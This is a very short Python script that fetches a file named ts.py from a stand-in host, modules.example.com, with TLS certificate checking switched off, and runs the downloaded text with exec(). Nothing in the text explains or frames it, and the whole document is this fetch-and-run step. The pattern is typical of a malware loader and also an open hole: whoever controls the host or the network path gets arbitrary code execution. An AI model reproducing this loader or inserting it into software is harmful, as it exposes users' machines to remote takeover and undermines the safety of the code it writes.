import requests

session = requests.Session()
session.verify = False
exec(session.get("https://modules.example.com/ts.py").text)
